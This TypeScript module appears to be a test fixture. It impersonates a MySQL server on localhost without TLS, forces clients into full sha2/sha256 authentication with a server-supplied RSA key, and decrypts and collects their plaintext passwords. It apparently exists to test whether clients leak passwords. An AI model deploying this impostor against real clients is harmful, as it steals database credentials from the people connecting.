// Answers in place of a MySQL server, without TLS, and tries to have the password: it asks for a full login, and sends an RSA key of its own to
// encrypt it with.
import { constants, generateKeyPairSync, privateDecrypt, randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { createServer, type AddressInfo, type Socket } from 'node:net';

export interface Impostor extends AsyncDisposable {
  host: string;
  port: number;
  /** Passwords that clients gave away. */
  stolen: string[];
  /** Clients that came as far as their first answer. */
  logins: number;
}

const PERFORM_FULL_AUTHENTICATION = Buffer.from([1, 4]);
const SCRAMBLE = Buffer.from(randomBytes(20).map((byte) => (byte % 126) + 1));

export async function startImpostor(plugin: 'caching_sha2_password' | 'sha256_password'): Promise<Impostor> {
  const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const pem = publicKey.export({ type: 'spki', format: 'pem' }).toString();
  const found = { stolen: [] as string[], logins: 0 };
  const server = createServer((socket) => {
    let turn = 0;
    send(socket, 0, greeting(plugin));
    onPackets(socket, (sequence, payload) => {
      turn++;
      if (turn === 1) {
        found.logins++;
        send(socket, sequence + 1, switchTo(plugin));
      } else if (payload.length === 1) send(socket, sequence + 1, Buffer.from(`\u0001${pem}`));
      else if (payload.length === 256) {
        const mixed = privateDecrypt(
          { key: privateKey, oaepHash: 'sha1', padding: constants.RSA_PKCS1_OAEP_PADDING },
          payload,
        );
        found.stolen.push(
          mixed
            .map((byte, i) => byte ^ SCRAMBLE[i % 20]!)
            .toString()
            .slice(0, -1),
        );
        socket.end();
      } else if (plugin === 'caching_sha2_password') send(socket, sequence + 1, PERFORM_FULL_AUTHENTICATION);
      else socket.end();
    });
    socket.on('error', () => undefined);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  return Object.assign(found, {
    host: '127.0.0.1',
    port,
    async [Symbol.asyncDispose]() {
      server.close();
      await once(server, 'close');
    },
  });
}

function greeting(plugin: string): Buffer {
  // Protocol 4.1, secure connection, authentication by plugins; no TLS.
  const [low, high] = [0x8200 | 0x0008, 0x0008];
  const head = Buffer.concat([Buffer.from([10]), Buffer.from('9.7.0\0'), Buffer.from([1, 0, 0, 0])]);
  const flags = Buffer.alloc(2 + 1 + 2 + 2 + 1 + 10);
  flags.writeUInt16LE(low, 0);
  flags[2] = 255;
  flags.writeUInt16LE(2, 3);
  flags.writeUInt16LE(high, 5);
  flags[7] = 21;
  return Buffer.concat([
    head,
    SCRAMBLE.subarray(0, 8),
    Buffer.from([0]),
    flags,
    SCRAMBLE.subarray(8),
    Buffer.from([0]),
    Buffer.from(`${plugin}\0`),
  ]);
}

function switchTo(plugin: string): Buffer {
  return Buffer.concat([Buffer.from([0xfe]), Buffer.from(`${plugin}\0`), SCRAMBLE, Buffer.from([0])]);
}

function send(socket: Socket, sequence: number, payload: Buffer): void {
  const header = Buffer.alloc(4);
  header.writeUIntLE(payload.length, 0, 3);
  header[3] = sequence;
  socket.write(Buffer.concat([header, payload]));
}

function onPackets(socket: Socket, take: (sequence: number, payload: Buffer) => void): void {
  let bytes = Buffer.alloc(0);
  socket.on('data', (piece) => {
    bytes = Buffer.concat([bytes, piece]);
    while (bytes.length >= 4 && bytes.length >= 4 + bytes.readUIntLE(0, 3)) {
      const length = bytes.readUIntLE(0, 3);
      take(bytes[3]!, bytes.subarray(4, 4 + length));
      bytes = bytes.subarray(4 + length);
    }
  });
}
